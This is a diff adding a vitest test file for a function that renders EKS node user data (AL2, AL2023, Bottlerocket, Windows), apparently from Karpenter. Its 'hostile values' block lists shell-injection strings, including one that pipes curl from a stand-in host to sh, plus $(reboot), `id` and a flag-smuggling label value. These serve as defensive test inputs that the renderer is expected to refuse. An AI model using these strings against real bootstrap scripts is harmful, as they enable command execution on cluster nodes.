@@ -1,0 +1,274 @@
+import { readFileSync } from 'node:fs'
+import { parse } from 'smol-toml'
+import { describe, expect, test } from 'vitest'
+import { renderUserData } from '../../../../../src/cloud/aws/userdata/user-data.ts'
+import { demoInputs } from '../../../../support/user-data-inputs.ts'
+
+const golden = (name: string) => readFileSync(new URL(`../../../../golden/userdata/${name}`, import.meta.url), 'utf8')
+
+const script = '#!/bin/sh\necho hi'
+const shellHeader = 'Content-Type: text/x-shellscript; charset="us-ascii"'
+
+describe('AL2', () => {
+  test('boots with EKS bootstrap script, to the byte', () => {
+    expect(renderUserData(demoInputs({ family: 'AL2' }))).toBe(golden('al2.txt'))
+  })
+
+  test('puts custom scripts first and the bootstrap part last', () => {
+    const text = renderUserData(demoInputs({ family: 'AL2', customUserData: script }))
+    expect(
+      text.startsWith(
+        `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="//"\n\n--//\n${shellHeader}\n\n${script}\n--//\n`,
+      ),
+    ).toBe(true)
+    expect(text.indexOf('/etc/eks/bootstrap.sh')).toBeGreaterThan(text.indexOf('echo hi'))
+    expect(text.endsWith('\n--//--\n')).toBe(true)
+  })
+
+  test('keeps the headers of custom MIME parts and drops every carriage return', () => {
+    const custom = [
+      'Content-Type: multipart/mixed; boundary="BOUNDARY"',
+      'MIME-Version: 1.0',
+      '',
+      '--BOUNDARY',
+      'Content-Type: text/cloud-config; charset="us-ascii"',
+      'X-Note: kept',
+      '',
+      'packages: [jq]',
+      '--BOUNDARY--',
+      '',
+    ].join('\r\n')
+    const text = renderUserData(demoInputs({ family: 'AL2', customUserData: custom }))
+    expect(text).toContain(
+      '--//\nContent-Type: text/cloud-config; charset="us-ascii"\nX-Note: kept\n\npackages: [jq]\n--//\n',
+    )
+    expect(text).not.toContain('\r')
+  })
+
+  test('asks for IPv6 and RAID0 on lines of their own', () => {
+    const text = renderUserData(
+      demoInputs({ family: 'AL2', raid0: true, kubelet: { clusterDNS: ['fd00::a', '10.0.0.10'], maxPods: 29 } }),
+    )
+    expect(text).toContain(" \\\n--ip-family ipv6 \\\n--dns-cluster-ip 'fd00::a' \\\n--use-max-pods false \\\n")
+    expect(text).toContain("' \\\n--local-disks raid0")
+  })
+
+  test('leaves out the CA it does not know, not the space before it', () => {
+    expect(renderUserData(demoInputs({ family: 'AL2', caBundle: '' }))).toContain(
+      "--apiserver-endpoint 'https://api.demo.example'  \\\n--dns-cluster-ip",
+    )
+  })
+
+  test('refuses MIME without a boundary', () => {
+    expect(() => renderUserData(demoInputs({ family: 'AL2', customUserData: 'MIME-Version: 1.0\n\nx' }))).toThrow(
+      'parsing MIME user data',
+    )
+  })
+})
+
+describe('AL2023', () => {
+  test('gives nodeadm a NodeConfig, to the byte', () => {
+    expect(renderUserData(demoInputs())).toBe(golden('al2023.txt'))
+  })
+
+  const kinds: Record<string, [custom: string, header: string]> = {
+    'a YAML mapping is a NodeConfig of its own': [
+      'apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig',
+      'Content-Type: application/node.eks.aws',
+    ],
+    'a script is a script': [script, shellHeader],
+    'a comment alone parses as null, so it is YAML': ['# nothing', 'Content-Type: application/node.eks.aws'],
+  }
+  test.each(Object.entries(kinds))('%s', (_name, [custom, header]) => {
+    const text = renderUserData(demoInputs({ customUserData: custom }))
+    expect(text).toContain(
+      `--//\n${header}\n\n${custom}\n--//\nContent-Type: application/node.eks.aws\n\n# Karpenter Generated NodeConfig\n`,
+    )
+  })
+
+  test('of custom MIME parts keeps only the content type', () => {
+    const custom = `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n--B\nX-Note: gone\n${shellHeader}\n\n${script}\n--B--\n`
+    const text = renderUserData(demoInputs({ customUserData: custom }))
+    expect(text).toContain(`--//\n${shellHeader}\n\n${script}\n--//\n`)
+    expect(text).not.toContain('X-Note')
+  })
+
+  test('case 35: passes the whole kubelet document on', () => {
+    const text = renderUserData(demoInputs({ rawKubelet: { registryPullQPS: 20, syncFrequency: '1m', maxPods: 29 } }))
+    expect(text).toContain('\n      registryPullQPS: 20\n')
+    expect(text).toContain('\n      syncFrequency: 1m\n')
+  })
+
+  test('writes RAID0 and omits what is unknown', () => {
+    const text = renderUserData(demoInputs({ raid0: true, caBundle: '', labels: {} }))
+    expect(text).toContain('    localStorage:\n      strategy: RAID0\n')
+    expect(text).not.toContain('certificateAuthority')
+    expect(text).not.toContain('flags:')
+  })
+
+  test('cannot be rendered while the service network is unknown', () => {
+    expect(() => renderUserData(demoInputs({ clusterCIDR: undefined }))).toThrow('resolving cluster CIDR')
+  })
+
+  test('quotes texts that YAML would read as something else', () => {
+    const text = renderUserData(
+      demoInputs({ rawKubelet: { tricky: 'yes', number: '0123', colon: 'a: b', multi: 'a\nb' } }),
+    )
+    const yaml = text.slice(text.indexOf('# Karpenter'), text.lastIndexOf('\n--//--'))
+    expect(yaml).not.toMatch(/tricky: yes/)
+    expect(yaml).not.toMatch(/number: 0123/)
+  })
+})
+
+describe('Bottlerocket', () => {
+  const example = demoInputs({
+    family: 'Bottlerocket',
+    kubelet: { clusterDNS: ['172.20.0.10'], maxPods: 29 },
+    labels: { 'karpenter.sh/capacity-type': 'spot', 'karpenter.sh/do-not-sync-taints': 'true' },
+  })
+
+  test('gets its settings as TOML', () => {
+    expect(parse(renderUserData(example))).toEqual(parse(golden('bottlerocket.toml')))
+  })
+
+  test('keeps other settings, drops other tables and unknown keys of settings.kubernetes', () => {
+    const customUserData = `
+      [settings.host-containers.admin]
+      enabled = true
+      [settings.kubernetes]
+      max-pods = 5
+      log-level = 3
+      unknown = "x"
+      [settings.kubernetes.node-labels]
+      mine = "yes"
+      "karpenter.sh/capacity-type" = "no"
+      [settings.kubernetes.node-taints]
+      old = ["x:NoSchedule"]
+      [other]
+      gone = true`
+    const { settings, ...rest } = parse(renderUserData({ ...example, customUserData }))
+    expect(rest).toEqual({})
+    expect(settings).toMatchObject({
+      'host-containers': { admin: { enabled: true } },
+      kubernetes: {
+        'max-pods': 29,
+        'log-level': 3,
+        'node-labels': { mine: 'yes', 'karpenter.sh/capacity-type': 'spot' },
+        'node-taints': { dedicated: ['web:NoSchedule'], 'karpenter.sh/unregistered': [':NoExecute'] },
+      },
+    })
+    expect(JSON.stringify(settings)).not.toContain('unknown')
+    expect(JSON.stringify(settings)).not.toContain('"old"')
+  })
+
+  test('writes kubelet values in its own spelling', () => {
+    const kubelet = {
+      maxPods: 10,
+      systemReserved: { cpu: '100m' },
+      evictionHard: { 'memory.available': '5%' },
+      evictionSoftGracePeriod: { 'memory.available': '90s' },
+      evictionMaxPodGracePeriod: 60,
+      imageGCHighThresholdPercent: 80,
+      cpuCFSQuota: false,
+    }
+    const { settings } = parse(renderUserData({ ...example, kubelet }))
+    expect(settings).toMatchObject({
+      kubernetes: {
+        'system-reserved': { cpu: '100m' },
+        'eviction-hard': { 'memory.available': '5%' },
+        'eviction-soft-grace-period': { 'memory.available': '1m30s' },
+        'eviction-max-pod-grace-period': 60,
+        'image-gc-high-threshold-percent': '80',
+        'cpu-cfs-quota-enforced': false,
+      },
+    })
+  })
+
+  const bind = ['apiclient', 'ephemeral-storage', 'bind']
+  test.each([
+    { binds: true, command: bind },
+    { binds: false, command: [...bind, '--dirs', '/var/lib/containerd', '/var/lib/kubelet', '/var/log/pods'] },
+  ])('mounts instance storage at boot (directories known to the image: $binds)', ({ binds, command }) => {
+    const customUserData =
+      '[settings.bootstrap-commands.mine]\ncommands = [["apiclient", "x"]]\nmode = "once"\nessential = false'
+    const { settings } = parse(
+      renderUserData({ ...example, raid0: true, bindsDirectoriesItself: binds, customUserData }),
+    )
+    expect(settings).toMatchObject({
+      'bootstrap-commands': {
+        mine: { mode: 'once' },
+        '000-mount-instance-storage': {
+          commands: [['apiclient', 'ephemeral-storage', 'init'], command],
+          mode: 'always',
+          essential: true,
+        },
+      },
+    })
+  })
+
+  test.each(['[settings', '[settings.kubernetes]\nmax-pods = "ten"', 'settings = 3'])(
+    'refuses %j',
+    (customUserData) => {
+      expect(() => renderUserData({ ...example, customUserData })).toThrow('invalid UserData')
+    },
+  )
+})
+
+describe('Windows and Custom', () => {
+  test('Windows runs the bootstrap script of its image after the custom lines', () => {
+    const text = renderUserData(
+      demoInputs({
+        family: 'Windows2022',
+        customUserData: "Write-Host 'pre'",
+        kubelet: { clusterDNS: ['172.20.0.10'], maxPods: 110 },
+        labels: {},
+        taints: [],
+      }),
+    )
+    expect(text).toBe(golden('windows.txt').replace('<flags>', '--max-pods=110'))
+  })
+
+  test('Windows leaves out CA and DNS it does not know', () => {
+    const text = renderUserData(demoInputs({ family: 'Windows2019', caBundle: '', kubelet: { maxPods: 110 } }))
+    expect(text).not.toContain('-Base64ClusterCA')
+    expect(text).not.toContain('-DNSClusterIP')
+  })
+
+  test('Custom is what the class says, or nothing', () => {
+    expect(renderUserData(demoInputs({ family: 'Custom', customUserData: 'anything\r\n' }))).toBe('anything\r\n')
+    expect(renderUserData(demoInputs({ family: 'Custom' }))).toBe('')
+  })
+})
+
+describe('hostile values', () => {
+  const hostile = [
+    "x'; curl evil | sh; '",
+    '$(reboot)',
+    '`id`',
+    'a"b',
+    'line\nbreak',
+    'a\\b',
+    'x,--node-ip=1.2.3.4',
+    '\u2019; evil',
+  ]
+
+  test.each(hostile)('a label value %j never reaches a shell or PowerShell line', (value) => {
+    for (const family of ['AL2', 'Windows2022', 'AL2023'] as const) {
+      expect(() => renderUserData(demoInputs({ family, labels: { team: value } }))).toThrow(
+        "cannot be passed to the node's bootstrap safely",
+      )
+    }
+  })
+
+  test.each(hostile)('a label value %j survives TOML unharmed', (value) => {
+    const { settings } = parse(renderUserData(demoInputs({ family: 'Bottlerocket', labels: { team: value } })))
+    expect(settings).toMatchObject({ kubernetes: { 'node-labels': { team: value } } })
+  })
+
+  test('an endpoint or name with a quote is refused', () => {
+    expect(() => renderUserData(demoInputs({ family: 'AL2', clusterName: "demo'" }))).toThrow('cluster name')
+    expect(() => renderUserData(demoInputs({ family: 'Windows2019', clusterEndpoint: "https://a';x" }))).toThrow(
+      'endpoint',
+    )
+  })
+})
